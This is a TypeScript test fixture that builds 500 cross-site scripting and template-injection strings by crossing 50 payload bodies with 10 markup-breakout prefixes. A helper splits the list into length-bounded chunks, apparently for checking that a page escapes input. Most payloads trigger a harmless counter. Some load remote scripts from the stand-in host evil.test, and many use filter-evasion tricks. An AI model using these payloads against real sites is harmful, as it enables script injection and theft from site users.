/** Each string calls `hit`, which the page under test counts, or loads a picture from another host. */
const bodies = [
  '<script>hit()</script>',
  '<script src=https://evil.test/x.js></script>',
  '<img src=x onerror=hit()>',
  '<img src=https://evil.test/p.png>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<iframe src=javascript:hit()></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data=javascript:hit()></object>',
  '<embed src=javascript:hit()>',
  '<a href=javascript:hit()>눌러</a>',
  '<a href="jav&#x09;ascript:hit()">눌러</a>',
  '<base href=https://evil.test/>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<style>@import "https://evil.test/x.css"</style>',
  '<div style="background:url(https://evil.test/p.png)">',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<body onload=hit()>',
  '<marquee onstart=hit()>',
  '<math><mtext><style><img src=x onerror=hit()>',
  '<template><img src=x onerror=hit()></template>',
  '<form action=javascript:hit()><button>눌러',
  '<button formaction=javascript:hit()>눌러',
  '<p onmouseover=hit()>별',
  '<x contenteditable onblur=hit()>',
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  'data:text/html,<script>hit()</script>',
  'vbscript:hit()',
  'https://evil.test/"onmouseover="hit()',
  '${hit()}',
  '{{constructor.constructor("hit()")()}}',
  '#{hit()}',
  '<%= hit() %>',
  '%3Cscript%3Ehit()%3C/script%3E',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<!--<img src=x onerror=hit()>-->',
  '<![CDATA[<script>hit()</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<textarea><img title="</textarea><img src=x onerror=hit()>">',
  '<xss id=x tabindex=1 onactivate=hit()>',
  '[눌러](javascript:hit())',
  '![x](https://evil.test/p.png)',
]
/** Prefixes that may close the markup or script around a text. */
const breakouts = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', '`;', "');", '\\"}]}']

/** 500 strings that would run as markup or script if a page did not escape them. */
export const injections: string[] = breakouts.flatMap((breakout) => bodies.map((body) => `${breakout}${body}`))

/** Joins the strings, one per line, into pieces of at most `chars` characters. */
export function piecesOf(strings: string[], chars: number): string[] {
  const pieces: string[] = []
  for (const string of strings) {
    const last = pieces.at(-1)
    if (last !== undefined && last.length + 1 + string.length <= chars) pieces[pieces.length - 1] = `${last}\n${string}`
    else pieces.push(string)
  }
  return pieces
}
